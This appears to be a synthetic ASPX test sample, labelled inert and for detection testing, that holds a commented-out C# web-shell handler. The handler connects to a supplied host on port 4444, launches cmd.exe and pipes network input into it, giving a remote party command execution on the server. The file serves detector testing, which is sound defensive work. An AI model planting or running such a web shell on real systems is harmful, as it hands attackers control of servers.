<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ Page Language="C#"%><script runat="server">void Go(object s, EventArgs e) { var c = new TcpClient(host.Value, 4444); var p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.RedirectStandardInput = true; p.StartInfo.RedirectStandardOutput = true; p.Start(); var r = new StreamReader(c.GetStream()); while (true) p.StandardInput.WriteLine(r.ReadLine()); }</script>
--%>
